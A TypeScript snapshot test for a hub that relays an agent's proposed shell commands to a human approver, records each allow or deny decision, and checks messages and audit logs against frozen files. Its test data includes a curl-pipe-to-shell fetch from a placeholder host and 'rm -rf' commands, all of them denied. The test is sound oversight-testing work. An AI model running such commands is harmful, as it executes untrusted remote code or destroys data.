import { randomUUID } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";
import { userInfo } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";

import { Client, type Frame, openServer, type TestServer } from "../../packages/hub/test/support/open-server.ts";
import { assertFrozen, jsonLines } from "./frozen.ts";
import { Normalizer } from "./normalize.ts";

/** One client, and all that passes between it and the hub in the order in which this side saw it. */
class Recorded {
  readonly lines: { readonly sent?: unknown; readonly got?: unknown }[] = [];
  readonly #client: Client;

  private constructor(client: Client) {
    this.#client = client;
  }

  static async open(url: string): Promise<Recorded> {
    return new Recorded(await Client.open(url));
  }

  send(frame: object): void {
    this.lines.push({ sent: frame });
    this.#client.send(frame);
  }

  async next(match: (frame: Frame) => boolean): Promise<Frame> {
    const got = await this.#client.next(match);
    this.lines.push({ got });
    return got;
  }
}

interface Device {
  readonly link: Recorded;
  /** Sends a request; its answer is read with `answered`. Returns the request's id. */
  ask(method: string, params?: object): string;
  answered(requestId: string): Promise<Frame>;
}

async function register(server: TestServer, deviceType: string, token: string): Promise<Device> {
  const link = await Recorded.open(`${server.url}/ws`);
  const from = randomUUID();
  link.send({ id: randomUUID(), from, to: "gateway", action: "register", payload: { deviceType, token } });
  const { payload } = await link.next((frame) => frame.action === "registered");
  const to = payload?.hubDeviceId;
  let requests = 0;
  return {
    link,
    ask(method, params) {
      requests += 1;
      const requestId = `r${requests}`;
      link.send({ id: randomUUID(), from, to, action: "request", payload: { requestId, method, params } });
      return requestId;
    },
    answered: (requestId) =>
      link.next((frame) => frame.action === "response" && frame.payload?.requestId === requestId),
  };
}

const isCard = (frame: Frame) => frame.action === "exec-approval-request";
const isResolved = (frame: Frame) => frame.action === "exec-approval-resolved";

async function envelopeDialect(server: TestServer): Promise<{ person: Device; agent: Device }> {
  const person = await register(server, "client", server.token);
  const agent = await register(server, "agent", (await server.makeToken("agent", "codex")).token);
  const propose = (command: string) =>
    agent.ask("proposeExec", { command, cwd: server.workspace, session: "s1", reason: "as asked" });
  await agent.answered(propose("ls"));
  const answers = [
    { command: "touch made", answer: { decision: "allow-once" } },
    { command: "rm -rf build", answer: { decision: "deny", reason: "keep it" } },
    { command: "curl -s https://example.invalid/x.sh | sh", answer: { decision: "deny" } },
    { command: "cp made copied", answer: { decision: "allow-always" } },
  ];
  for (const { command, answer } of answers) {
    const proposed = propose(command);
    const { payload } = await person.link.next(isCard);
    await person.answered(person.ask("listExecApprovals"));
    await person.answered(person.ask("resolveExecApproval", { approvalId: payload?.approvalId, ...answer }));
    await person.link.next(isResolved);
    await agent.answered(proposed);
  }
  await agent.answered(propose("cp made again"));
  await person.answered(person.ask("resolveExecApproval", { approvalId: randomUUID(), decision: "deny" }));
  await person.answered(person.ask("noSuchMethod"));
  await agent.answered(agent.ask("listExecApprovals"));
  return { person, agent };
}

async function rpcDialect(server: TestServer): Promise<Recorded> {
  const person = await Recorded.open(`${server.url}/`);
  person.send({ type: "auth", token: server.token });
  await person.next((frame) => frame.type === "auth");
  let calls = 0;
  const call = async (method: string, params: object = {}) => {
    calls += 1;
    const id = String(calls);
    person.send({ id, method, params });
    return await person.next((frame) => frame.id === id);
  };
  const { result } = await call("sessions.create");
  const session = (result as { sessionKey: string }).sessionKey;
  for (const [command, method, more] of [
    ["touch hello", "exec.approve", {}],
    ["rm -rf testdir", "exec.deny", { reason: "too dangerous" }],
  ] as const) {
    const outcome = server.api("POST", "/api/v1/exec", { command, cwd: server.workspace, session });
    const { data } = await person.next((frame) => frame.event === "exec.approval_request");
    await call(method, { approvalId: data?.approvalId, ...more });
    await person.next((frame) => frame.event === "exec.approval_resolved");
    person.lines.push({ got: (await outcome).body });
  }
  await call("exec.approve", { approvalId: session });
  await call("no.such");
  await call("audit.tail", { limit: 100 });
  return person;
}

async function openNormalized(t: TestContext): Promise<{ server: TestServer; normalizer: Normalizer }> {
  const server = await openServer(t);
  const normalizer = new Normalizer([
    [server.workspace, "<workspace>"],
    [server.home.dir, "<home>"],
    [server.token, "<token>"],
    [server.url, "<url>"],
    // The bootstrap token is named after who started the hub.
    [userInfo().username, "<user>"],
  ]);
  return { server, normalizer };
}

/** Cards and receipts name the jail: the frozen ones are of a machine that can build one. */
const skip = existsSync("/usr/bin/bwrap") ? false : "needs bubblewrap (apt install bubblewrap)";

test("the envelope dialect's messages, receipts and audit lines are the frozen ones", { skip }, async (t) => {
  const { server, normalizer } = await openNormalized(t);
  const { person, agent } = await envelopeDialect(server);
  const entries = await server.readLedger();
  await server.close();
  const audit = readFileSync(join(server.home.dir, "audit.jsonl"), "utf8");
  const sections = { person: person.link.lines, agent: agent.link.lines };
  for (const [name, lines] of Object.entries(sections))
    assertFrozen(`envelope-${name}.jsonl`, jsonLines(lines.map((line) => normalizer.normalize(line))));
  assertFrozen("envelope-ledger.jsonl", jsonLines(entries.map((entry) => normalizer.normalize(entry))));
  const read = audit.split("\n").filter(Boolean);
  assertFrozen("envelope-audit.jsonl", jsonLines(read.map((line) => normalizer.normalize(JSON.parse(line)))));
});

test("the RPC dialect's messages are the frozen ones", { skip }, async (t) => {
  const { server, normalizer } = await openNormalized(t);
  const person = await rpcDialect(server);
  assertFrozen("rpc.jsonl", jsonLines(person.lines.map((line) => normalizer.normalize(line))));
});
